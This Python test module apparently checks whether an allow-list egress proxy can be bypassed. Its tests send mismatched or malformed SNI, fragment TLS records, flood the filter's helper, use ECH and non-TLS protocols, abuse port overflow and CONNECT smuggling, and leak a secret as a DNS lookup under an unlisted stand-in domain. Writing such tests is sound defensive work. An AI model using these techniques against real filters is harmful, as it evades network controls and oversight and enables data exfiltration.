"""Tunnels that say one thing to the proxy and another to the server, and tunnels that are none."""

from __future__ import annotations

import secrets

from . import places
from .probe import SERVER_NAME, Hello, Outcome, Probe, server_name_extension
from .rows import ALLOWED, row

EVIL, GOOD = places.EVIL, places.ALLOWED
ENCRYPTED_CLIENT_HELLO = 0xFE0D


def send(probe: Probe, hello: Hello, target: str = f"{GOOD}:443", record_size: int = 16384, pieces: int = 1) -> Outcome:
    return probe.tunnel(target, hello.records(record_size), hello.mark, pieces=pieces)


@row("sni-other", "CONNECT to a listed host, SNI of an unlisted one")
def sni_other(probe: Probe) -> Outcome:
    return send(probe, Hello(EVIL))


@row("sni-other-listed", "CONNECT to a listed host, SNI of another listed one")
def sni_other_listed(probe: Probe) -> Outcome:
    return send(probe, Hello(f"other.{places.NAMES}"))


@row("sni-listed-connect-not", "CONNECT to an unlisted host, SNI of a listed one")
def sni_listed(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD), f"{EVIL}:443")


@row("sni-case", "SNI in upper and lower case", ALLOWED)
def sni_case(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming(GOOD.title()))


@row("sni-none", "no SNI")
def sni_none(probe: Probe) -> Outcome:
    return send(probe, Hello(None))


@row("sni-empty", "an SNI without a name")
def sni_empty(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming())


@row("sni-two", "an SNI of two names, the listed one first")
def sni_two(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming(GOOD, EVIL))


@row("sni-two-last", "an SNI of two names, the listed one last")
def sni_two_last(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming(EVIL, GOOD))


@row("sni-twice", "two SNI extensions")
def sni_twice(probe: Probe) -> Outcome:
    hello = Hello(GOOD)
    return send(probe, hello.with_extensions([*hello.extensions(), (SERVER_NAME, server_name_extension(EVIL))]))


@row("sni-nul", "an SNI with a NUL behind the listed name")
def sni_nul(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming(f"{GOOD}\0.{EVIL}"))


@row("sni-longer", "an SNI that begins with the listed name")
def sni_longer(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD).naming(f"{GOOD}.{EVIL}"))


@row("sni-records", "an unlisted SNI spread over many TLS records")
def sni_records(probe: Probe) -> Outcome:
    return send(probe, Hello(EVIL), record_size=40)


@row("sni-pieces", "an unlisted SNI in many TCP segments")
def sni_pieces(probe: Probe) -> Outcome:
    return send(probe, Hello(EVIL), pieces=20)


@row("sni-flood", "an unlisted SNI in so many tunnels at once that what checks them cannot keep up")
def sni_flood(probe: Probe) -> Outcome:
    """All wait for their first message and then send it together, so that one check is still waiting when the next comes."""
    hello = Hello(EVIL)
    # Squid's helper takes 128 at once and 256 wait; fewer than the files that a container usually may open.
    tunnels = [tunnel for tunnel in (probe.open_tunnel(f"{GOOD}:443") for _ in range(480)) if tunnel]
    for tunnel in tunnels:
        tunnel.sendall(hello.records())
    for tunnel in tunnels:
        try:
            tunnel.recv(4096)
        except OSError:
            pass
        tunnel.close()
    return probe.outcome(hello.mark, f"{len(tunnels)} tunnels")


@row("sni-records-listed", "a listed SNI spread over many TLS records", ALLOWED)
def sni_records_listed(probe: Probe) -> Outcome:
    return send(probe, Hello(GOOD), record_size=40)


@row("sni-large-listed", "a listed SNI in a first message as large as post-quantum keys make it, in many segments", ALLOWED)
def sni_large_listed(probe: Probe) -> Outcome:
    hello = Hello(GOOD)
    # An extension that nobody knows (RFC 8701); 4000 bytes are more than any hybrid key share and less than a record.
    return send(probe, hello.with_extensions([*hello.extensions(), (0x0A0A, bytes(4000))]), pieces=10)


@row("ech", "Encrypted Client Hello: the name that counts is inside")
def ech(probe: Probe) -> Outcome:
    hello = Hello(GOOD)
    # RFC 9849, section 5: outer; HKDF-SHA256 and AES-128-GCM; a configuration; a key share; what is encrypted.
    inside = b"\x00" + b"\x00\x01\x00\x01" + b"\x2a" + b"\x00\x20" + secrets.token_bytes(32) + b"\x00\xb0" + secrets.token_bytes(176)
    return send(probe, hello.with_extensions([*hello.extensions(), (ENCRYPTED_CLIENT_HELLO, inside)]))


@row("not-tls-http", "plain HTTP in a tunnel to port 443")
def not_tls_http(probe: Probe) -> Outcome:
    mark = probe.mark()
    return probe.tunnel(f"{GOOD}:443", f"GET /{mark} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode(), mark)


@row("not-tls-ssh", "another protocol in a tunnel to port 443")
def not_tls_ssh(probe: Probe) -> Outcome:
    mark = probe.mark()
    return probe.tunnel(f"{GOOD}:443", f"SSH-2.0-{mark}\r\n".encode(), mark)


@row("not-tls-record", "bytes that only look like a TLS record")
def not_tls_record(probe: Probe) -> Outcome:
    mark = probe.mark()
    data = bytes.fromhex(mark) * 4
    return probe.tunnel(f"{GOOD}:443", b"\x16\x03\x01" + len(data).to_bytes(2, "big") + data, mark)


@row("not-tls-alert", "a TLS alert in front of another protocol")
def not_tls_alert(probe: Probe) -> Outcome:
    mark = probe.mark()
    return probe.tunnel(f"{GOOD}:443", b"\x15\x03\x01\x00\x02\x01\x00" + mark.encode(), mark)


@row("ssl2", "an SSL 2 hello, which has no SNI")
def ssl2(probe: Probe) -> Outcome:
    mark = probe.mark()
    challenge = bytes.fromhex(mark) + bytes(4)
    message = b"\x01\x03\x01\x00\x03\x00\x00\x00\x10" + b"\x00\x00\x2f" + challenge
    return probe.tunnel(f"{GOOD}:443", (0x8000 | len(message)).to_bytes(2, "big") + message, mark)


for port in (*places.OTHER_PORTS, places.PLAIN_PORT, places.DNS_PORT):
    @row(f"port-{port}-connect", f"a tunnel to port {port} of a listed host")
    def other_port(probe: Probe, port: int = port) -> Outcome:
        hello = Hello(GOOD)
        return send(probe, hello, f"{GOOD}:{port}")


@row("port-overflow", "a port number that is 443 only in 16 bits")
def port_overflow(probe: Probe) -> Outcome:
    hello = Hello(GOOD)
    return send(probe, hello, f"{GOOD}:{65536 + 8443}")


@row("connect-host-header", "CONNECT to a listed host with the Host header of an unlisted one")
def connect_host(probe: Probe) -> Outcome:
    hello = Hello(EVIL)
    return probe.tunnel(f"{GOOD}:443", hello.records(), hello.mark, f"Host: {EVIL}:443")


@row("connect-user", "CONNECT to a listed host in front of an unlisted one")
def connect_user(probe: Probe) -> Outcome:
    hello = Hello(EVIL)
    return send(probe, hello, f"{GOOD}:443@{EVIL}:443")


@row("connect-then-request", "a request for an unlisted host right behind a CONNECT")
def connect_then_request(probe: Probe) -> Outcome:
    mark = probe.mark()
    request = f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\nGET http://{EVIL}/{mark} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    return probe.raw(request.encode(), mark, answers=2)


@row("dns-through-proxy", "a secret as a name below an unlisted domain, which a look-up would carry out")
def dns_through_proxy(probe: Probe) -> Outcome:
    mark = probe.mark()
    try:
        probe.get(f"http://{mark}.{EVIL}/")
    except OSError:
        pass
    hello = Hello(f"{mark}.{EVIL}")
    return Outcome.joined(probe.tunnel(f"{mark}.{EVIL}:443", hello.records(), hello.mark), probe.outcome(mark, "looked up"))
